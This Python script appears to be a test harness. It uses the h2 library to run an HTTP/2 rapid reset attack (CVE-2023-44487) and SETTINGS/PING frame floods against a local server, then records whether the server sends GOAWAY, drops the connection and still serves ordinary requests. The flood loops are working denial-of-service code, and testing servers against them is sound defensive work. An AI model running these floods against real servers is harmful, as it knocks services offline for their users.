"""Abusive HTTP/2 clients, written with the independent `h2` library.

Usage: h2_abuse.py MODE PORT PATH COUNT

MODE `reset`: rapid reset (CVE-2023-44487) — on one h2c connection open COUNT streams,
resetting each right after its HEADERS, as fast as possible. MODE `settings` / `ping`: send
COUNT SETTINGS / PING frames in a loop (control-frame floods). Then, on a second connection,
make one ordinary request. Prints one JSON object: how many frames it sent before the server
cut it off (`opened`), whether the server sent GOAWAY (and its error code), whether the
connection was closed, and the status of the ordinary request.
"""
import json
import socket
import sys

import h2.config
import h2.connection
import h2.events
import h2.exceptions
import h2.settings


def connect(port):
    sock = socket.create_connection(("127.0.0.1", port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
    conn.initiate_connection()
    sock.sendall(conn.data_to_send())
    return sock, conn


def headers(port, path):
    return [(":method", "GET"), (":path", path), (":scheme", "http"), (":authority", f"127.0.0.1:{port}")]


def drain(sock, conn, result):
    """Reads what is available without blocking; notes GOAWAY and close."""
    sock.setblocking(False)
    try:
        while True:
            data = sock.recv(65535)
            if not data:
                result["closed"] = True
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.ConnectionTerminated):
                    result["goaway"] = int(event.error_code)
    except BlockingIOError:
        pass
    except (ConnectionResetError, BrokenPipeError):
        result["closed"] = True
    finally:
        sock.setblocking(True)


def abuse(mode, port, path, count):
    sock, conn = connect(port)
    result = {"opened": 0, "goaway": None, "closed": False}
    try:
        for index in range(count):
            if mode == "reset":
                stream = conn.get_next_available_stream_id()
                conn.send_headers(stream, headers(port, path), end_stream=True)
                conn.reset_stream(stream)
            elif mode == "settings":
                conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535 + index % 2})
            else:
                conn.ping(index.to_bytes(8, "big"))
            sock.sendall(conn.data_to_send())
            result["opened"] += 1
            drain(sock, conn, result)
            if result["closed"] or result["goaway"] is not None:
                break
    except (ConnectionResetError, BrokenPipeError, h2.exceptions.ProtocolError):
        result["closed"] = True
    # Whatever the server does next: close within the socket timeout, or not.
    sock.settimeout(5)
    try:
        while not result["closed"]:
            data = sock.recv(65535)
            if not data:
                result["closed"] = True
                break
            try:
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        result["goaway"] = int(event.error_code)
            except h2.exceptions.ProtocolError:
                pass
    except (socket.timeout, ConnectionResetError):
        result["closed"] = result["closed"] or False
    sock.close()
    return result


def ordinary_request(port, path):
    sock, conn = connect(port)
    stream = conn.get_next_available_stream_id()
    conn.send_headers(stream, headers(port, path), end_stream=True)
    sock.sendall(conn.data_to_send())
    status = None
    while True:
        data = sock.recv(65535)
        if not data:
            break
        ended = False
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                status = int(dict(event.headers)[":status"])
            if isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended = True
        sock.sendall(conn.data_to_send())
        if ended:
            break
    sock.close()
    return status


def main():
    mode, port, path, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
    result = abuse(mode, port, path, count)
    result["ordinaryStatus"] = ordinary_request(port, path)
    print(json.dumps(result))


if __name__ == "__main__":
    main()
